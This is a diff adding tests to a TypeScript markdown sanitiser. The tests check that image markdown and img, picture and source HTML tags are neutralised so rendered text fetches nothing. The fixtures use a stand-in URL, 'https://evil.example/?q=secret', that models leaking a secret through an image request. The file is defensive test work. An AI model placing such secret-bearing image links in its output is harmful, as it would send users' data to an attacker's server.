@@ -135,6 +135,74 @@ describe('Markdown without mentions', () => {
   });
 });
 
+describe('Markdown without images', () => {
+  const SECRET = 'https://evil.example/?q=secret';
+
+  it.each([
+    [`![](${SECRET})`, `!_[](${SECRET})`],
+    [`see ![a @b](${SECRET} "t")`, `see !_[a @_b](${SECRET} "t")`],
+    [`![a][x]\n\n[x]: ${SECRET}`, `!_[a][x]\n\n[x]: ${SECRET}`],
+    [`[![a](${SECRET})](https://example.com)`, `[!_[a](${SECRET})](https://example.com)`],
+    [`<img src="${SECRET}">`, `&lt;img src="${SECRET}">`],
+    [
+      `<details><picture><SOURCE srcset="${SECRET}"></picture></details>`,
+      `<details>&lt;picture>&lt;SOURCE srcset="${SECRET}"></picture></details>`,
+    ],
+  ])('%j fetches nothing', (source, expected) => {
+    const made = withoutMentions(source);
+    expect(made).toBe(expected.replaceAll(/([!@])_/g, `$1${ZERO_WIDTH}`));
+    expect(imagesIn(made)).toEqual([]);
+  });
+
+  it.each(['`![a](b)`', '```rust\n#![feature(x)]\n<img>\n```', 'wow! [a](b)', '<details>', 'a < image'])(
+    '%j stays as it is',
+    (source) => expect(withoutMentions(source)).toBe(source),
+  );
+
+  it('has none, whatever is written, also in pieces', () => {
+    const bits = fc.constantFrom(
+      '!',
+      '[',
+      ']',
+      '(http://a/b)',
+      '`',
+      '\\',
+      '\n',
+      '\n\n',
+      ' ',
+      'a',
+      '<img src=x>',
+      '@b',
+      '&#33;',
+    );
+    fc.assert(
+      fc.property(
+        fc.array(bits, { maxLength: 60 }).map((parts) => parts.join('')),
+        (source) => {
+          expect(imagesIn(withoutMentions(source))).toEqual([]);
+          for (const piece of piecesWithoutMentions(source, 100)) expect(imagesIn(piece)).toEqual([]);
+        },
+      ),
+      { numRuns: 500 },
+    );
+  });
+});
+
+function parsed(source: string): Nodes {
+  return fromMarkdown(source, { extensions: [gfm()], mdastExtensions: [gfmFromMarkdown()] });
+}
+
+function imagesIn(source: string): string[] {
+  const found: string[] = [];
+  const walk = (node: Nodes): void => {
+    if (node.type === 'image' || node.type === 'imageReference') found.push(node.type);
+    if (node.type === 'html' && /<(img|picture|source)/i.test(node.value)) found.push(node.value);
+    if ('children' in node) for (const child of node.children) walk(child);
+  };
+  walk(parsed(source));
+  return found;
+}
+
 /** What is shown as text, as platforms see it when they look for names: entities are characters, code is not in it. */
 function textsIn(source: string): string[] {
   const texts: string[] = [];
@@ -148,6 +216,6 @@ function textsIn(source: string): string[] {
       return;
     if ('children' in node) for (const child of node.children) walk(child);
   };
-  walk(fromMarkdown(source, { extensions: [gfm()], mdastExtensions: [gfmFromMarkdown()] }));
+  walk(parsed(source));
   return texts;
 }
